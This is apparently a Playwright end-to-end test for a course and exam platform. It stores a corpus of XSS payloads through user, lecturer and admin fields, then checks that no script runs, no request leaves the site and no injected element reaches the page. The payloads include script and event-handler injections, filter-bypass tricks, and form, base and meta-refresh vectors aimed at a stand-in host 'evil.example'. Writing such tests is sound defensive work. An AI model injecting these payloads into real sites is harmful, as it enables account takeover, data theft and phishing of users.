import { expect, test } from '@playwright/test';
import type { APIRequestContext, Browser, Page } from '@playwright/test';
import { E2E_PORT } from './server-log.ts';

/**
 * Markup written by people is shown as text, never run (issue #19). A corpus of script-carrying vectors is stored
 * through the fields a student, a lecturer and the administrator write and the pages show; then every such page is
 * opened as the author, another user and the administrator. No dialog opens, no request leaves the site, the
 * marker `window.__xss` stays unset, the page stays where it is, and no <meta http-equiv>, <base>, <form>, <link>,
 * script-bearing attribute or style with url() from the corpus reaches the DOM.
 */
test.describe.configure({ timeout: 170_000 });

const EVIL = 'evil.example';
const X = 'window.__xss=1';
const VECTORS = [
  `<script>${X}</script>`,
  `<img src=x onerror="${X}">`,
  `<svg onload=${X}>`,
  `<svg><script>${X}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${X}>`,
  `<a href="javascript:${X}">点我</a>`,
  `<a href="jav&#x09;ascript:${X}">点我</a>`,
  `<iframe src="javascript:${X}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`,
  `<base href="https://${EVIL}/">`,
  `<form action="https://${EVIL}/steal"><input name=p><button>提交</button></form>`,
  `<link rel=stylesheet href="https://${EVIL}/x.css">`,
  `<div style="background:url(https://${EVIL}/bg.png)">样式</div>`,
  `<img src=//${EVIL}/beacon.gif>`,
  `<video><source onerror="${X}"></video>`,
  `<body onload=${X}>`,
  `<details open ontoggle=${X}>`,
  `<input autofocus onfocus=${X}>`,
  `"><script>${X}</script>`,
  `'><img src=x onerror=${X}>`,
  `\${${X}}\``,
  `</textarea><script>${X}</script>`,
  `</title><script>${X}</script>`,
  `\\u003cscript\\u003e${X}\\u003c/script\\u003e`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<object data="javascript:${X}"></object>`,
  `<embed src="https://${EVIL}/x.swf">`,
  `<isindex action=javascript:${X} type=image>`,
  `<img src="x" style="x:expression(${X})">`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">数据</a>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<style>@import 'https://${EVIL}/i.css';</style>`,
];

type Call = (
  path: string,
  body?: unknown,
) => Promise<{ code: number; msg: string; data: ReturnType<typeof JSON.parse> }>;

async function signIn(request: APIRequestContext, who: 'student' | 'lecturer' | 'organisation' | 'admin') {
  const mobile = { student: '13800000001', lecturer: '13800000002', organisation: '13800000003' };
  const login =
    who === 'admin'
      ? await request.post('/apis/system/api/admin/login', { data: { loginName: 'admin', password: 'Demo1234' } })
      : await request.post('/apis/user/api/user/login/password', {
          data: { mobile: mobile[who], password: 'Demo1234', clientType: 1 },
        });
  const { data } = await login.json();
  const call: Call = async (path, body = {}) =>
    (await request.post(`/apis${path}`, { data: body, headers: { token: data.token } })).json();
  return call;
}

/**
 * Stores the corpus through one field: all of it in as few values as the field's limit allows (the refusal
 * names the limit). `many` fields (comments, feedback…) take one value per piece; a single field takes the first.
 */
async function store(label: string, many: boolean, put: (value: string) => ReturnType<Call>): Promise<string[]> {
  const first = await put(VECTORS.join(' '));
  if (first.code === 200) return [label];
  const max = Number(/不能超过 (\d+)/.exec(first.msg)?.[1] ?? 0);
  if (!max) throw new Error(`${label}: ${first.code} ${first.msg}`);
  const pieces: string[] = [];
  for (const v of VECTORS) {
    const last = pieces.at(-1);
    if (last !== undefined && last.length + 1 + v.length <= max) pieces[pieces.length - 1] = `${last} ${v}`;
    else pieces.push(v.slice(0, max));
  }
  for (const p of many ? pieces : pieces.slice(0, 1)) {
    const res = await put(p);
    if (res.code !== 200) throw new Error(`${label}: ${res.code} ${res.msg}`);
  }
  return [label];
}

interface Seen {
  problems: string[];
}

/** Opens a page and reports what ran or reached the DOM from the corpus. */
async function visit(page: Page, path: string, seen: Seen, as: string) {
  const problems: string[] = [];
  const onDialog = (d: { message(): string; dismiss(): Promise<void> }) => {
    problems.push(`dialog: ${d.message()}`);
    void d.dismiss();
  };
  const onRequest = (r: { url(): string }) => {
    const u = new URL(r.url());
    if (!['127.0.0.1', 'localhost'].includes(u.hostname) && u.protocol !== 'data:' && u.protocol !== 'blob:')
      problems.push(`request to ${r.url()}`);
  };
  page.on('dialog', onDialog);
  page.on('request', onRequest);
  await page.goto(path);
  await page.waitForLoadState('networkidle');
  const found = await page.evaluate((evil) => {
    const out: string[] = [];
    if ((window as { __xss?: unknown }).__xss) out.push('window.__xss was set');
    const corpus = (v: string) => v.includes(evil) || v.includes('__xss');
    // the elements themselves, not what they hold: the site's own forms hold inputs showing stored text
    for (const el of document.querySelectorAll('meta[http-equiv], base, form, link, iframe, object, embed, script')) {
      const own = [...el.attributes].some((a) => corpus(a.value));
      // the router's data stream carries the stored text as JSON inside the page's own script
      const script = el.tagName === 'SCRIPT' && !el.textContent!.startsWith('window.__reactRouterContext');
      if (own || (script && corpus(el.textContent!))) out.push(`element ${el.outerHTML.slice(0, 120)}`);
    }
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.attributes) {
        const risky = /^on/i.test(a.name) || (a.name === 'style' && /url\(|expression/i.test(a.value));
        const scripted = /^(href|src|action|data|formaction)$/i.test(a.name) && /^\s*(javascript|data):/i.test(a.value);
        if ((risky && /__xss|evil|expression/.test(a.value)) || (scripted && a.value.includes('__xss')))
          out.push(`attribute ${a.name}="${a.value.slice(0, 80)}" on <${el.tagName.toLowerCase()}>`);
      }
    }
    return out;
  }, EVIL);
  problems.push(...found);
  const now = new URL(page.url());
  if (now.port !== String(E2E_PORT) || !['127.0.0.1', 'localhost'].includes(now.hostname))
    problems.push(`navigated to ${page.url()}`);
  page.off('dialog', onDialog);
  page.off('request', onRequest);
  seen.problems.push(...problems.map((p) => `${path} as ${as}: ${p}`));
}

async function contextAs(browser: Browser, who: 'student' | 'lecturer' | 'organisation' | 'admin' | 'guest') {
  const context = await browser.newContext();
  if (who !== 'guest') await signIn(context.request, who);
  return context;
}

test('markup stored by people is shown as text on every page that shows it', async ({ browser, request }) => {
  const student = await signIn(request, 'student');
  const lecturer = await signIn(request, 'lecturer');
  const admin = await signIn(request, 'admin');
  const stored: string[] = [];

  // the student: nickname, feedback, comments on a free course, the lecturer application
  stored.push(...(await store('nickname', false, (v) => student('/user/auth/user/ext/update', { nickname: v }))));
  stored.push(
    ...(await store('feedback', true, (v) =>
      student('/data/auth/feedback/log/save', { feedbackType: 1, content: v, contact: '', imgUrls: [] }),
    )),
  );
  const courses = (await student('/course/api/course/list', { pageSize: 100 })).data.list;
  const free = courses.find((c: { isFree: number }) => c.isFree === 1) ?? courses[0];
  stored.push(
    ...(await store('comment', true, (v) =>
      student('/course/auth/course/comment/save', { courseId: free.id, commentText: v }),
    )),
  );
  const application = (await student('/user/auth/lecturer/audit/view')).data;
  if (application) {
    stored.push(
      ...(await store('lecturer application', false, (v) =>
        student('/user/auth/lecturer/audit/update', {
          ...application,
          lecturerName: v.slice(0, 20),
          introduce: `申请理由：${v}`,
        }),
      )),
    );
  }

  // the lecturer: a course draft, a paper, a problem
  const draft = (await lecturer('/course/auth/course/audit/list', {})).data.list[0];
  const draftView = (await lecturer('/course/auth/course/audit/view', { id: draft.id })).data;
  stored.push(
    ...(await store('course draft', false, (v) =>
      lecturer('/course/auth/course/audit/update', { ...draftView, id: draft.id, courseName: v, introduce: v }),
    )),
  );
  // a paper not waiting for its audit (one waiting cannot be changed)
  let paper: { id: string } | undefined;
  for (const p of (await lecturer('/exam/auth/exam/audit/list', { pageSize: 100 })).data.list) {
    const view = (await lecturer('/exam/auth/exam/audit/preview', { id: p.id })).data;
    const put = (v: string) =>
      lecturer('/exam/auth/exam/audit/update', { ...view, ...p, id: p.id, examName: v, description: v });
    if ((await put('试卷')).code !== 200) continue;
    stored.push(...(await store('paper', false, put)));
    paper = p;
    break;
  }
  expect(paper, 'no paper of the demo lecturer could be changed').toBeDefined();
  // published through the audit, so the public paper page shows it
  const submitted = await lecturer('/exam/auth/exam/audit/is/submit/audit', { id: paper!.id });
  expect(submitted.msg).toBe('');
  const approved = await admin('/exam/admin/exam/audit/audit', { id: paper!.id, auditStatus: 1, auditOpinion: '' });
  expect(approved.msg).toBe('');
  const shelf = (await student('/exam/api/exam/info/list', { pageSize: 100 })).data.list;
  const published = shelf.find((e: { examName: string }) => e.examName.includes('__xss'));
  expect(published, 'the changed paper is not on the shelf').toBeDefined();
  const problem = (await lecturer('/exam/auth/exam/problem/list', {})).data.list[0];
  const problemView = (await lecturer('/exam/auth/exam/problem/view', { id: problem.id })).data;
  stored.push(
    ...(await store('problem', false, (v) =>
      // a new problem: one used in a published paper stays as it is
      lecturer('/exam/auth/exam/problem/save', {
        ...problemView,
        id: undefined,
        parentId: undefined,
        // the stem keeps some text: one made of markup alone is empty once cleaned, and refused as such
        problemContent: `题干 ${v}`,
      }),
    )),
  );

  // the administrator: a header link, a friendly link, a message to users
  stored.push(
    ...(await store('nav bar', true, (v) => admin('/system/admin/nav/bar/save', { navTitle: v, navUrl: '/' }))),
  );
  stored.push(
    ...(await store('link', true, (v) => admin('/system/admin/website/link/save', { linkName: v, linkUrl: '/' }))),
  );
  expect(stored.length).toBeGreaterThanOrEqual(8);

  const pages: Record<string, string[]> = {
    guest: ['/', `/view/${free.id}`, `/exam/view/${published.id}`],
    student: [
      '/',
      `/exam/view/${published.id}`,
      '/account/info',
      '/account/feedback',
      `/view/${free.id}`,
      '/account/teacher',
      '/apply',
    ],
    organisation: ['/', `/view/${free.id}`],
    lecturer: [
      '/',
      `/preview/course/${draft.id}`,
      '/account/exams/examAdmin',
      `/account/exams/preview?id=${paper!.id}`,
      '/account/subject',
    ],
    admin: [
      `/exam/view/${published.id}`,
      '/admin/feedback',
      '/admin/lecturer-audits',
      '/admin/nav',
      '/admin/link',
      '/admin/users',
    ],
  };
  const seen: Seen = { problems: [] };
  for (const [who, paths] of Object.entries(pages)) {
    const context = await contextAs(browser, who as 'guest');
    const page = await context.newPage();
    for (const p of paths) await visit(page, p, seen, who);
    await context.close();
  }
  expect(seen.problems).toEqual([]);
});
